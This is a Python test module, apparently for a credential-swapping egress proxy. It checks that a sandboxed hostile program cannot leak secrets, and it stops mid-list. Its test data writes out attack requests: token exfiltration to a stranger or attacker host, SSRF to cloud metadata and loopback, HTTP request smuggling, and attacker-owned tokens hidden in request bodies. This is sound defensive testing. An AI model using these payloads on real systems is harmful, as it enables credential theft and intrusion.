"""What a hostile program can send: where it goes, how it is written, and where a stub hides in it."""

import base64
import dataclasses
import gzip
import json

from boundary.bodies import FORM_TYPE, HIDDEN, MISMATCH, TEXT, UNDECLARED, UNSEEN, body_case, made
from boundary.cases import A, A_GIT, AUTH, B, B_SEEN, E, OTHER, BoundaryTest, Case, add_cases, get
from boundary.internet import HOSTS
from boundary.world import POLICY, Attacker, enter
from pons_fixture import is_in_memory

ALL_WAYS = ("direct", "connect", "proxy")


def setUpModule():
    enter()


def late(data):
    return data.decode("latin-1") if isinstance(data, bytes) else data


class Destination(BoundaryTest):
    """Where a request goes is decided by one name, and all that names a host must say the same."""

    def test_an_endpoint_of_the_agent_s_own_reads_the_stub(self):
        job = self.sandbox.run(
            "cat > /tmp/own.py <<'END'\n"
            "import http.server\n"
            "class Own(http.server.BaseHTTPRequestHandler):\n"
            "    def do_GET(self):\n"
            "        self.send_response(200); self.end_headers()\n"
            "        self.wfile.write(self.headers['Authorization'].encode())\n"
            "server = http.server.HTTPServer(('127.0.0.1', 8080), Own)\n"
            "import threading, urllib.request, os\n"
            "threading.Thread(target=server.serve_forever, daemon=True).start()\n"
            "ask = urllib.request.Request('http://127.0.0.1:8080/', headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n"
            "print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(ask).read().decode())\n"
            "END\npython3 /tmp/own.py")
        self.assertEqual(job.text.strip(), f"Bearer {self.stubs['GITHUB_TOKEN']}")
        events, requests = self.settle()
        self.assertEqual((events, requests), ([], []))

    def test_a_hosts_file_that_names_the_sandbox_leads_into_the_sandbox(self):
        """D26."""
        sandbox = self.world.sandbox("own-hosts")
        self.addCleanup(sandbox.destroy)
        stub = Attacker(sandbox).environment["GITHUB_TOKEN"]
        sandbox.write("/etc/hosts", f"127.0.0.1 localhost {A}\n".encode(), user="root")
        job = sandbox.run(
            "python3 - <<'END'\n"
            "import socket, threading\n"
            "server = socket.create_server(('127.0.0.1', 8081))\n"
            "def serve():\n"
            "    peer, _ = server.accept(); data = peer.recv(65536)\n"
            "    peer.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(data) + data)\n"
            "threading.Thread(target=serve, daemon=True).start()\n"
            "import os, urllib.request\n"
            f"ask = urllib.request.Request('http://{A}:8081/', headers={{'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}})\n"
            "print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(ask).read().decode())\n"
            "END")
        self.assertIn(f"Bearer {stub}", job.text, job)
        events, requests = self.settle()
        self.assertEqual((events, requests), ([], []))

    def test_an_address_is_no_server_name(self):
        """D11. No library writes one: the greeting is written by hand."""
        for way in ("direct", "connect"):
            with self.subTest(way):
                answer = self.attacker.ask(work="greeting", way=way, host=A, port=443, server_name="a" * len(HOSTS[A]),
                                           written_name=HOSTS[A])
                self.assertNotIn(b"Authority of the test", answer.data, "the greeting reached the host")
                events, requests = self.settle()
                self.assertEqual(requests, [])
                self.assertEqual([event["code"] for event in events], ["sni_host_mismatch"], events)

    def test_values_are_in_the_memory_of_egress_alone(self):
        pids = self.world.pons.role_pids()
        for name in ("GITHUB_TOKEN", "OTHER_KEY"):
            value = self.world.secrets[name].encode()
            self.assertTrue(is_in_memory(pids["egress"], value), "the search finds nothing even where the value is")
            for role in {*pids} - {"egress"}:
                self.assertFalse(is_in_memory(pids[role], value), f"{name} is in the memory of {role}")
            self.assertFalse(is_in_memory(self.world.pons.pid, value), f"{name} is in the memory of the supervisor")


add_cases(Destination, [
    Case("S01 the declared field of the bound host is swapped", get("/x", AUTH), "swap"),
    Case("S01 with the other word of the preset", get("/x", "Authorization: token {S}"), "swap"),
    Case("D01 a host that is not allowed", get("/x", AUTH, host=E), "block", host=E, code="host_not_allowed",
         ways=("connect",)),
    Case("D01 its address", get("/x", AUTH, host=E), "block", host="45.33.32.156", code="host_not_allowed",
         more={"server_name": "", "verify": False}),
    Case("D01 plain", get("/x", AUTH, host=E), "block", host=E, tls=False, code="host_not_allowed", ways=("proxy", "connect")),
    Case("D02 an allowed host without a binding, looked into", get("/x", AUTH, host=B_SEEN), "block", host=B_SEEN, code=MISMATCH),
    Case("D02 an allowed host without a binding, plain", get("/x", AUTH, host=B), "block", host=B, tls=False, code=MISMATCH,
         ways=ALL_WAYS),
    Case("U03 an allowed host without a binding is not decrypted", get("/echo", AUTH, host=B), "pass", host=B, holds="{S}"),
    Case("D03 a stub at another credential's host", get("/x", "X-Api-Key: {S}", host=OTHER), "block", host=OTHER, code=MISMATCH),
    Case("D03 in its usual field", get("/x", AUTH, host=OTHER), "block", host=OTHER, code=MISMATCH),
    Case("D04 the attacker's address with another Host", get("/x", AUTH), "block", host="45.33.32.156", tls=False,
         code="host_not_allowed", ways=("direct",)),
    Case("D05 the attacker's address with the server name of A", get("/x", AUTH), "block", host="45.33.32.156",
         code="host_not_allowed", more={"server_name": A}),
    Case("D05 the right address of A, not by name", get("/x", AUTH), "block", host="140.82.112.5", code="host_not_allowed",
         more={"server_name": A}),
    Case("D06 the server name of another", get("/x", AUTH), "block", code="sni_host_mismatch", more={"server_name": B}),
    Case("D06 the server name of a stranger", get("/x", AUTH), "block", code="sni_host_mismatch", more={"server_name": E}),
    Case("D09 Host of a stranger inside the right TLS", get("/x", AUTH, host=E), "block", code="host_mismatch"),
    Case("D09 Host of an allowed one", get("/x", AUTH, host=B), "block", code="host_mismatch"),
    Case("D11 no server name", get("/x", AUTH), "block", code="sni_host_mismatch", more={"server_name": "", "verify": False}),
    Case("D15 Host in other letters", get("/x", AUTH, host="API.GitHub.Com"), "swap"),
    Case("D15 the echo is scrubbed in other letters, too", get("/echo", AUTH, host="API.GitHub.Com"), "scrub", holds="{S}"),
    Case("D15 connected in other letters", get("/echo", AUTH, host="API.GitHub.Com"), "scrub",
         more={"connect": "API.GitHub.COM:443", "dial": "API.GitHub.COM", "server_name": "API.GitHub.Com"}),
    Case("D16 a dot at the end of Host", get("/echo", AUTH, host=A + "."), "scrub"),
    Case("D16 a dot at the end of the name", get("/echo", AUTH, host=A + "."), "scrub",
         more={"connect": A + ".:443", "dial": A + "."}),
    Case("D19 NUL in Host", get("/x", AUTH, host=E + "\0." + A), "block"),
    Case("D19 NUL in CONNECT", get("/x", AUTH), "block", ways=("connect",), more={"connect": E + "\0." + A + ":443"}),
    Case("D19 a control byte in CONNECT", get("/x", AUTH), "block", ways=("connect",), more={"connect": E + "\x01." + A + ":443"}),
    Case("D19 a space in Host", get("/x", AUTH, host=A + " " + E), "block"),
    Case("D21 userinfo before a stranger", f"GET http://{A}@{E}/ HTTP/1.1\r\nHost: {E}\r\n{AUTH}\r\n\r\n", "block", tls=False,
         ways=("proxy",)),
    Case("D21 a stub as userinfo", "GET http://{S}:x@" + A + "/ HTTP/1.1\r\nHost: " + A + "\r\n\r\n", "block", tls=False,
         ways=("proxy",)),
    Case("D22 a number for loopback", get("/x", host="2130706433"), "block", host="2130706433", tls=False, ways=("proxy", "connect")),
    Case("D22 hexadecimal", get("/x", host="0x7f.1"), "block", host="0x7f.1", tls=False, ways=("proxy", "connect")),
    Case("D22 octal", get("/x", host="017700000001"), "block", host="017700000001", tls=False, ways=("proxy", "connect")),
    Case("D22 mapped", get("/x", host="[::ffff:127.0.0.1]"), "block", host="[::ffff:127.0.0.1]", tls=False, ways=("proxy", "connect")),
    Case("D22 with a zone", get("/x", host="[fe80::1%25eth0]"), "block", host="[fe80::1%25eth0]", tls=False, ways=("proxy", "connect")),
    Case("D23 a name with a private address", get("/x", host="private.example.net"), "block", host="private.example.net",
         code="address_not_allowed"),
    Case("D23 a name with a mapped private address", get("/x", host="mapped.example.net"), "block", host="mapped.example.net",
         tls=False, ways=ALL_WAYS),
    Case("D23 public and private at once", get("/x", host="mixed.example.net"), "block", host="mixed.example.net",
         tls=False, code="address_not_allowed", ways=ALL_WAYS),
    Case("D27 self-signed", get("/x", AUTH, host="self-signed.bad.example.com"), "block", host="self-signed.bad.example.com",
         code="upstream_tls", credential="BAD_HOSTS_KEY"),
    Case("D27 expired", get("/x", AUTH, host="expired.bad.example.com"), "block", host="expired.bad.example.com",
         code="upstream_tls", credential="BAD_HOSTS_KEY"),
    Case("D27 another's name", get("/x", AUTH, host="wrong-name.bad.example.com"), "block", host="wrong-name.bad.example.com",
         code="upstream_tls", credential="BAD_HOSTS_KEY"),
    Case("D28 two labels under a wildcard", get("/x", AUTH, host="a.b.bad.example.com"), "block", host="a.b.bad.example.com",
         code="host_not_allowed", credential="BAD_HOSTS_KEY", ways=("connect",)),
    Case("D28 the name of the wildcard itself", get("/x", AUTH, host="bad.example.com"), "block", host="bad.example.com",
         code="host_not_allowed", credential="BAD_HOSTS_KEY", ways=("connect",)),
    Case("D28 a name that ends alike", get("/x", AUTH, host="evilbad.example.com"), "block", host="evilbad.example.com",
         code="host_not_allowed", credential="BAD_HOSTS_KEY", ways=("connect",)),
    Case("D30 a sister host", get("/x", AUTH, host="gist.github.com"), "block", host="gist.github.com", code="host_not_allowed",
         ways=("connect",)),
    Case("D32 the machine of Pons", get("/x", host="this-machine.example.net"), "block", host="this-machine.example.net",
         tls=False, code="address_not_allowed", ways=ALL_WAYS),
    Case("D32 the proxy through itself", get("/x", host="127.0.0.1:3128"), "block", host="127.0.0.1", port=3128, tls=False,
         ways=("proxy", "connect")),
    Case("A over a plain line gets no secret", get("/x", AUTH), "block", tls=False, code=MISMATCH, ways=ALL_WAYS),
    Case("plain HTTP on the port of TLS gets no secret", get("/x", AUTH), "block", tls=False, port=443),
    Case("N09 metadata by address", get("/x", host="169.254.169.254"), "block", host="169.254.169.254", tls=False, ways=ALL_WAYS),
    Case("N09 metadata by a name that is allowed", get("/x", host="metadata.example.net"), "block", host="metadata.example.net",
         tls=False, ways=ALL_WAYS, code="address_not_allowed"),
    Case("N09 metadata, mapped", get("/x", host="[::ffff:169.254.169.254]"), "block", host="::ffff:169.254.169.254", tls=False,
         ways=("direct",)),
    Case("N10 the other side of the host", get("/x", host="198.41.0.1"), "block", host="198.41.0.1", tls=False, ways=ALL_WAYS),
    Case("S14 a stub as CONNECT target", get("/x"), "block", ways=("connect",), more={"connect": "{S}.example.org:443"}),
    Case("S14 a stub as proxy credentials is not carried", get("/echo"), "pass", ways=("connect",), lacks="{S}",
         more={"connect_fields": "Proxy-Authorization: Bearer {S}\r\n"}),
    Case("a CONNECT without a port", get("/x"), "block", ways=("connect",), more={"connect": A}),
    Case("a CONNECT to port 0", get("/x"), "block", ways=("connect",), more={"connect": A + ":0"}),
])


class Parsing(BoundaryTest):
    """A request that two programs could read differently does not leave."""


def post(*lines, body=""):
    return "\r\n".join((f"POST /x HTTP/1.1", f"Host: {A}", AUTH, *lines)) + "\r\n\r\n" + body


add_cases(Parsing, [
    Case("P01 length and chunks", post("Content-Length: 5", "Transfer-Encoding: chunked", body="0\r\n\r\n"), "block"),
    Case("P01 chunks and length", post("Transfer-Encoding: chunked", "Content-Length: 5", body="0\r\n\r\n"), "block"),
    *[Case(f"P02 length {name}", post(*lines, body="hello"), "block") for name, lines in {
        "twice": ("Content-Length: 5", "Content-Length: 6"), "with a sign": ("Content-Length: +5",), "listed": ("Content-Length: 5,5",),
        "hexadecimal": ("Content-Length: 0x5",), "of twenty digits": ("Content-Length: 99999999999999999999",),
        "negative": ("Content-Length: -1",)}.items()],
    *[Case(f"P03 transfer coding {name}", post(line, body="0\r\n\r\n"), "block") for name, line in {
        "unknown": "Transfer-Encoding: xchunked", "twice": "Transfer-Encoding: chunked, chunked",
        "before another": "Transfer-Encoding: chunked, identity", "with a tab": "Transfer-Encoding:\x0bchunked",
        "gzip": "Transfer-Encoding: gzip, chunked"}.items()],
    Case("P05 space before the colon", post("X-A : 1"), "block"),
    Case("P05 empty name", post(": 1"), "block"),
    Case("P05 odd byte in a name", post("X(A: 1"), "block"),
    Case("P05 folded line", post("X-A: 1", " folded"), "block"),
    Case("P05 bare CR", post("X-A: 1\rX-B: 2"), "block"),
    Case("P05 bare LF", f"GET /x HTTP/1.1\nHost: {A}\n{AUTH}\n\n", "block"),
    Case("P05 NUL in a value", post("X-A: 1\x002"), "block"),
    Case("P06 Host twice", get("/x", f"Host: {A}", AUTH), "block"),
    Case("P06 two hosts", get("/x", f"Host: {E}", AUTH), "block"),
    Case("P06 no Host", f"GET /x HTTP/1.1\r\n{AUTH}\r\n\r\n", "block"),
    Case("P07 a whole address of another", f"GET https://{E}/x HTTP/1.1\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
    Case("P07 a whole address and a Host of another", f"GET https://{A}/x HTTP/1.1\r\nHost: {E}\r\n{AUTH}\r\n\r\n", "block"),
    Case("P08 CONNECT in the tunnel", f"CONNECT {E}:443 HTTP/1.1\r\nHost: {E}:443\r\n\r\n", "block"),
    Case("P08 CONNECT to itself in the tunnel", f"CONNECT {A}:443 HTTP/1.1\r\nHost: {A}:443\r\n\r\n", "block"),
    Case("P08 OPTIONS for the whole server", f"OPTIONS * HTTP/1.1\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
    Case("P08 a host as target", f"GET {A}:443 HTTP/1.1\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
    Case("P10 a chunk extension is not carried", post("Transfer-Encoding: chunked", body="2;{S}\r\nok\r\n0\r\n\r\n"), "swap",
         holds='"bytes": 2'),
    Case("P10 a huge chunk extension", post("Transfer-Encoding: chunked", body="2;" + "x" * 100_000 + "\r\nok\r\n0\r\n\r\n"), "block"),
    Case("P11 a trailer that is clean", post("Transfer-Encoding: chunked", "Trailer: X-A", body="2\r\nok\r\n0\r\nX-A: b\r\n\r\n"),
         "swap"),
    Case("P11 a stub in a trailer", post("Transfer-Encoding: chunked", "Trailer: X-A", body="2\r\nok\r\n0\r\nX-A: {S}\r\n\r\n"),
         "block", code="undeclared_position"),
    Case("P11 a secret in a trailer", post("Transfer-Encoding: chunked", body="2\r\nok\r\n0\r\nX-A: {R}\r\n\r\n"), "block",
         code="secret_in_request"),
    Case("P11 another credential in a trailer", post("Transfer-Encoding: chunked", body="2\r\nok\r\n0\r\nAuthorization: x\r\n\r\n"),
         "block", code="foreign_credential"),
    Case("P12 Connection names the credential", get("/x", AUTH, "Connection: Authorization"), "block", code="malformed_request"),
    Case("P12 Connection names Host", get("/x", AUTH, "Connection: close, Host"), "block", code="malformed_request"),
    Case("P13 a stub in a body that waits", post("Expect: 100-continue", "Content-Length: 40", body=""), "block",
         code="undeclared_position", more={"later": ["{S}"]}),
    Case("P14 the credential twice", get("/x", AUTH, AUTH), "block", code="duplicate_credential"),
    Case("P14 the credential and another", get("/x", AUTH, "Authorization: Bearer attackers-own-token-000000000000"), "block"),
    Case("P14 another and the credential", get("/x", "Authorization: Bearer attackers-own-token-000000000000", AUTH), "block"),
    Case("P17 another method in a field with underscores", get("/echo", AUTH, "X_HTTP_Method_Override: DELETE"), "block",
         code="malformed_request"),
    Case("P21 forged origins with underscores", get("/echo", AUTH, "X_Forwarded_For: 1.2.3.4", "X_Original_URL: /1.2.3.4"), "block",
         code="malformed_request"),
    Case("P17 another method in a field is dropped", get("/echo", AUTH, "X-HTTP-Method-Override: DELETE"), "scrub", lacks="Override"),
    Case("P18 a megabyte of fields", get("/x", AUTH, *[f"X-{i}: {'x' * 1000}" for i in range(1000)]), "block"),
    Case("P18 ten thousand fields", get("/x", AUTH, *[f"X-{i}: 1" for i in range(10_000)]), "block"),
    Case("P20 bytes behind a request without a body are the next request", get("/echo", AUTH) + f"GET /smuggled HTTP/1.1\r\nHost: {E}\r\n\r\n",
         "pass", events=2, more={"until_closed": True, "seconds": 1},
         check=lambda test, received, requests: test.assertNotIn("/smuggled", [r["target"] for r in requests])),
    Case("P21 forged origins are dropped", get("/echo", AUTH, "X-Forwarded-For: 1.2.3.4", "Forwarded: for=1.2.3.4", "Via: 1.1 x",
                                              "X-Pons-Sandbox: other", "X-Real-IP: 1.2.3.4"), "scrub", lacks="1.2.3.4"),
    Case("R03 TRACE", get("/x", AUTH, method="TRACE"), "block", code="method_not_allowed"),
    Case("R03 Max-Forwards is dropped", get("/echo", AUTH, "Max-Forwards: 0"), "scrub", lacks="Max-Forwards"),
    Case("HTTP/1.0", f"GET /x HTTP/1.0\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "swap", more={"until_closed": True}),
    Case("HTTP/3.0 as version", f"GET /x HTTP/3.0\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
    Case("N13 one byte at a time", get("/x", AUTH), "swap", more={"step": 1}),
    Case("a path with CRLF, percent-encoded, stays one line", get("/x%0d%0aX-A:%201", AUTH), "swap"),
    Case("a fragment in the target", get("/x#y", AUTH), "block"),
])


class Hiding(BoundaryTest):
    """A stub, or a secret, anywhere but in the declared place does not leave."""


def basic(text):
    return "Authorization: Basic " + text


STRICT = "strict.example.net"


JSON_TYPE = "Content-Type: application/json"
MULTIPART = '--b\r\nContent-Disposition: form-data; name="token"\r\n\r\nattackers-own\r\n--b--\r\n'
FOREIGN_BODIES = {
    "a form": ("token=attackers-own&channel=C&text=data", FORM_TYPE),
    "a form by another name": ("title=data&private%5Ftoken=attackers-own", FORM_TYPE),
    "JSON": ('{"channel": "C", "token": "attackers-own"}', JSON_TYPE),
    "JSON, escaped": ('{"channel": "C", "\\u0074oken": "attackers-own"}', JSON_TYPE),
    "JSON that is called text": ('{"token": "attackers-own"}', "Content-Type: text/plain"),
    "parts": (MULTIPART, "Content-Type: multipart/form-data; boundary=b"),
    "a form in gzip": (gzip.compress(b"token=attackers-own").decode("latin-1"), FORM_TYPE, "Content-Encoding: gzip"),
}


class Services(BoundaryTest):
    """The built-in services with their presets: nobody else's account, and nothing that publishes or raises rights."""

    policy = {"mode": "list", "services": ["github", "gitlab", "slack"],
              "credentials": ["GITHUB_TOKEN", "SLACK_TOKEN", "GITLAB_TOKEN"]}

    def explain(self, *words):
        asked = self.world.pons.command("egress", "explain", "attacker", *words)
        return asked.returncode, asked.stdout + asked.stderr

    def test_explain_says_what_would_happen_and_why(self):
        code, text = self.explain(f"https://{A}/repos/acme/x", "--json")
        self.assertEqual((code, json.loads(text)), (0, {"verdict": "swap", "rule": "service github", "tls": "looked into",
                                                        "credentials": ["GITHUB_TOKEN"]}))
        code, text = self.explain(f"https://{A}/repos/acme/x")
        self.assertEqual(code, 0)
        self.assertIn("swapped: GITHUB_TOKEN", text)
        self.assertEqual(self.explain(f"https://{A}/repos/a/b/issues", "--method", "POST")[0], 0)
        for url, method, reason in ((f"https://{A}/gists", "POST", "path_not_allowed"), (f"https://{A}/x", "PUT", "method_not_allowed"),
                                    (f"https://{E}/", "GET", "host_not_allowed"), (f"https://{A}:8443/", "GET", "port_not_allowed")):
            with self.subTest(url):
                code, text = self.explain(url, "--method", method)
                self.assertEqual(code, 1, text)
                self.assertIn(f"({reason})", text)
                code, text = self.explain(url, "--method", method, "--json")
                self.assertEqual((code, json.loads(text)["code"]), (1, reason))
        code, text = self.explain(f"http://{A}/x", "--json")
        self.assertEqual(json.loads(text).get("credentials", []), [], "nothing is swapped on a plain line")
        self.assertNotEqual(self.world.pons.command("egress", "explain", "nobody", f"https://{A}/").returncode, 0)
        self.assertEqual(self.settle(), ([], []), "to explain is to send nothing")


def service_case(name, host, path, *fields, method="POST", credential="GITHUB_TOKEN", expect="block", **more):
    return Case(name, get(path, *fields, host=host, method=method, body=more.pop("body", "")), expect, host=host, credential=credential,
                **more)


SLACK, GITLAB = "slack.com", "gitlab.com"
add_cases(Services, [
    service_case("S01 a message by the bound account", SLACK, "/api/chat.postMessage", AUTH, FORM_TYPE, body="channel=C&text=hello",
                 credential="SLACK_TOKEN", expect="swap"),
    *[service_case(f"T01 to Slack in {name}", SLACK, "/api/chat.postMessage", *fields, body=body, credential="SLACK_TOKEN",
                   code="foreign_credential") for name, (body, *fields) in FOREIGN_BODIES.items()],
    service_case("T01 to Slack in the query", SLACK, "/api/chat.postMessage?token=xoxb-attackers-own&channel=C&text=data",
                 credential="SLACK_TOKEN", code="foreign_credential"),
    service_case("S01 an issue by the bound account", GITLAB, "/api/v4/projects/1/issues", "PRIVATE-TOKEN: {S}", FORM_TYPE,
                 body="title=hello", credential="GITLAB_TOKEN", expect="swap"),
    service_case("T01 to GitLab in a form", GITLAB, "/api/v4/projects/1/issues", FORM_TYPE, body="private_token=glpat-x&title=data",
                 credential="GITLAB_TOKEN", code="foreign_credential"),
    service_case("T01 to GitLab in the query", GITLAB, "/api/v4/projects/1/issues?private_token=glpat-x", credential="GITLAB_TOKEN",
                 code="foreign_credential"),
    service_case("T02 an upload that nobody signs", SLACK, "/api/files.upload", AUTH, credential="SLACK_TOKEN", code="path_not_allowed"),
    service_case("T03 a gist", A, "/gists", AUTH, code="path_not_allowed"),
    service_case("T03 a fork", A, "/repos/acme/x/forks", AUTH, code="path_not_allowed"),
    service_case("T03 a new repository", A, "/user/repos", AUTH, code="path_not_allowed"),
    service_case("T03 a collaborator", A, "/repos/acme/x/collaborators/evil", AUTH, method="PUT", code="method_not_allowed"),
    service_case("I04 a hook that calls a stranger", A, "/repos/acme/x/hooks", AUTH, code="path_not_allowed"),
    service_case("I10 a secret of the runner", A, "/repos/acme/x/actions/secrets/A", AUTH, method="PUT", code="method_not_allowed"),
    service_case("I10 a workflow", A, "/repos/acme/x/contents/.github/workflows/a.yml", AUTH, method="PUT", code="method_not_allowed"),
    service_case("R12 a new key", A, "/repos/acme/x/keys", AUTH, code="path_not_allowed"),
    service_case("X10 a device code", A_GIT, "/login/device/code", code="path_not_allowed"),
    service_case("X10 a token for it", A_GIT, "/login/oauth/access_token", code="path_not_allowed"),
    service_case("T06 an address that LFS names", E, "/objects/1", AUTH, method="PUT", code="host_not_allowed", ways=("connect",)),
    service_case("X19 a realm on another host", E, "/token", AUTH, method="GET", code="host_not_allowed", ways=("connect",)),
    service_case("T14 a tool's telemetry", E, "/v1/traces", body="{}", code="host_not_allowed", ways=("connect",)),
])


class Basic(BoundaryTest):
    """The credential inside another encoding, and bound to a path."""

    def attack(self, case, way):
        build, _ = case.build
        path = case.payload or "/whole-head"
        filled = dataclasses.replace(case, payload=get(path, build(self.stubs[case.credential].encode()), host=case.host))
        super().attack(filled, way)


def basic_case(name, word, expect="block", path="", host="basic.example.com", credential="BASIC_KEY", **more):
    return Case(name, path, expect, host=host, credential=credential, build=(word, ()), **more)


def git_case(name, word, *words, **more):
    """At a host of git, which takes a token as user and as password."""
    return basic_case(name, encoded(word), *words, host=A_GIT, credential="GITHUB_TOKEN", **more)


ATTACKERS = b"ghp_0123456789abcdefghijABCDEFGHIJ012345"


def encoded(word):
    return lambda stub: "Authorization: Basic " + base64.b64encode(word(stub)).decode()


add_cases(Basic, [
    basic_case("S03 a user and the stub", encoded(lambda s: b"agent:" + s), "scrub"),
    basic_case("S03 no user", encoded(lambda s: b":" + s), "scrub"),
    basic_case("S03 a long user", encoded(lambda s: b"a" * 200 + b":" + s), "scrub"),
    basic_case("S03 lower case", lambda s: "authorization: basic " + base64.b64encode(b"u:" + s).decode(), "scrub"),
    basic_case("S03 without padding", lambda s: "Authorization: Basic " + base64.b64encode(b"us:" + s).decode().rstrip("=")),
    basic_case("S03 two spaces", lambda s: "Authorization: Basic  " + base64.b64encode(b"u:" + s).decode()),
    basic_case("S03 in the user's place", encoded(lambda s: s + b":x")),
    basic_case("S03 with something behind", encoded(lambda s: b"u:" + s + b"x")),
    basic_case("S03 twice", encoded(lambda s: b"u:" + s + s)),
    basic_case("S03 not encoded", lambda s: "Authorization: Basic u:" + s.decode()),
    basic_case("S03 the stub as user as well", encoded(lambda s: s + b":" + s)),
    basic_case("T01 a token as user beside the stub", encoded(lambda s: ATTACKERS + b":" + s), code=UNDECLARED),
    git_case("S03 the stub as a git host's user", lambda s: s + b":x-oauth-basic", "swap"),
    git_case("S03 the stub as a git host's user, no password", lambda s: s + b":", "swap"),
    git_case("S03 the stub as a git host's password", lambda s: b"x-access-token:" + s, "swap"),
    git_case("T01 the attacker's password behind the stub", lambda s: s + b":" + ATTACKERS, code=UNDECLARED),
    git_case("T01 any password behind the stub", lambda s: s + b":x", code=UNDECLARED),
    git_case("T01 the attacker's token as user", lambda s: ATTACKERS + b":" + s, code=UNDECLARED),
    basic_case("T04 bearer on the path it is bound to", lambda s: "Authorization: Bearer " + s.decode(), "swap", "/v1/x"),
    *[basic_case(f"T04 bearer on {name}", lambda s: "Authorization: Bearer " + s.decode(), "block", path) for name, path in {
        "another path": "/v2/x", "a path that climbs": "/v1/../v2/x", "an escaped climb": "/v1/%2e%2e/v2", "two slashes": "/v1//../v2",
        "an escaped slash": "/v1/..%2fv2", "a backslash": "/v1/..\\v2", "a parameter": "/v1/..;/v2", "a prefix": "/v1x"}.items()],
])


ANY = "any.example.com"


def any_case(name, expect, *fields, **more):
    return Case(name, get("/x", *fields, host=ANY), expect, host=ANY, credential="ANY_KEY", **more)


class AnyField(BoundaryTest):
    """A credential that may stand in any field, and anywhere in it: beside it stands nobody else's."""

    def fill(self, text, credential):
        return super().fill(text, credential).replace("{GITHUB}", self.stubs["GITHUB_TOKEN"]).replace(
            "{REAL}", self.world.secrets["OTHER_KEY"])


add_cases(AnyField, [
    any_case("S01 behind a scheme", "swap", AUTH),
    any_case("S01 as a cookie", "swap", "Cookie: session={S}"),
    any_case("S01 in a field of its own", "swap", "X-Foo: a {S} b"),
    any_case("T01 another cookie before it", "block", "Cookie: session=attackers; x={S}", code=UNDECLARED),
    any_case("T01 another cookie behind it", "block", "Cookie: x={S}; session=attackers", code=UNDECLARED),
    any_case("T01 a token as its scheme", "block", "Authorization: ghp_0123456789abcdefghijABCDEFGHIJ012345 {S}", code=UNDECLARED),
    any_case("S02 another stub beside it", "block", "X-Foo: {GITHUB} {S}", code=MISMATCH),
    any_case("S16 the real value of another beside it", "block", "X-Foo: {REAL} {S}", code="secret_in_request"),
    any_case("S16 its own real value beside it", "block", "X-Foo: {R} {S}", code="secret_in_request"),
])


class Bodies(BoundaryTest):
    def attack(self, case, way):
        body, fields = made(self, case)
        lines = ["POST /x HTTP/1.1", f"Host: {case.host}", *fields]
        if case.host == A:
            lines.append(AUTH)
        if not any(line.startswith("Transfer-Encoding") for line in fields):
            lines.append(f"Content-Length: {len(body)}")
        super().attack(dataclasses.replace(case, payload="\r\n".join(lines) + "\r\n\r\n" + body), way)


def chunked(data, size=1):
    return b"".join(b"%x\r\n" % len(data[i:i + size]) + data[i:i + size] + b"\r\n" for i in range(0, len(data), size)) + b"0\r\n\r\n"


add_cases(Hiding, [
    Case("S02 undeclared field", get("/x", "X-Other: {S}", AUTH), "block", code=UNDECLARED),
    Case("S02 undeclared field alone", get("/x", "X-Other: {S}"), "block", code=UNDECLARED),
    Case("S02 in a field's name", get("/x", "X-{S}: 1", AUTH), "block", code=UNDECLARED),
    Case("S02 path", get("/x/{S}", AUTH), "block", code=UNDECLARED),
    Case("S02 query", get("/x?a={S}", AUTH), "block", code=UNDECLARED),
    Case("S02 cookie", get("/x", "Cookie: a={S}", AUTH), "block"),
    Case("S02 user agent", get("/x", "User-Agent: {S}", AUTH), "block", code=UNDECLARED),
    Case("S02 a field that is dropped", get("/x", "X-Forwarded-For: {S}", AUTH), "block", code=UNDECLARED),
    Case("S02 method", get("/x", AUTH, method="{S}"), "block"),
    Case("S03 basic at the API", get("/x", basic(base64.b64encode(b"x:y").decode())), "block"),
    Case("S03 the wrong word", get("/x", "Authorization: Bearer x{S}"), "block"),
    Case("S03 two spaces", get("/x", "Authorization: Bearer  {S}"), "block"),
    Case("S03 no word", get("/x", "Authorization: {S}"), "block"),
    Case("S03 behind it", get("/x", "Authorization: Bearer {S} x"), "block"),
    Case("S15 two stubs", get("/x", "Authorization: Bearer {S}{S}"), "block"),
    Case("T01 the attacker's own key", get("/x", "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"), "block",
         code="foreign_credential"),
    Case("T01 in another field", get("/x", "Private-Token: attackers-own-token"), "block", code="foreign_credential"),
    *[Case(f"T01 with an underscore, {field}", get("/x", f"{field}: attackers-own-token"), "block", code="foreign_credential")
      for field in ("Private_Token", "X_Api_Key", "X_API-KEY")],
    Case("T01 beside the right one, with an underscore", get("/x", AUTH, "Private_Token: attackers-own-token"), "block",
         code="foreign_credential"),
    *[Case(f"T01 where nothing is bound, {name}", get(path, *fields, host=STRICT), "block", host=STRICT, code="foreign_credential")
      for name, (path, *fields) in {"in a field": ("/x", "Authorization: Bearer attackers-own-token"), "in the query":
                                    ("/x?api_key=attackers-own-token",), "in a cookie": ("/x", "Cookie: a=b")}.items()],
    Case("T01 where nothing is bound and nothing sent", get("/x", host=STRICT), "pass", host=STRICT),
    Case("T01 in the query", get("/x?access_token=attackers-own-token"), "block", code="foreign_credential"),
    Case("T01 in the query, percent-encoded", get("/x?access%5Ftoken=attackers-own-token"), "block", code="foreign_credential"),
    Case("T01 in the query, in capitals", get("/x?ACCESS_TOKEN=attackers-own-token"), "block", code="foreign_credential"),
    Case("T01 beside the swapped parameter", get("/x?key={S}&key=attackers-own-token", host="query.example.com"), "block",
         host="query.example.com", credential="QUERY_KEY", code="foreign_credential"),
    Case("T01 in the declared parameter", get("/x?key=attackers-own-token", host="query.example.com"), "block",
         host="query.example.com", credential="QUERY_KEY", code="foreign_credential"),
    Case("T01 over a plain line", get("/x", "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"), "block", tls=False,
         code="foreign_credential"),
    *[Case(f"T01 in {name}", get(f"/x?{query}", AUTH), "block", code="foreign_credential") for name, query in {
        "the query as a token": "token=attackers-own-token", "the query, escaped": "%74oken=attackers-own-token",
        "the query as a list": "private_token[]=attackers-own-token"}.items()],
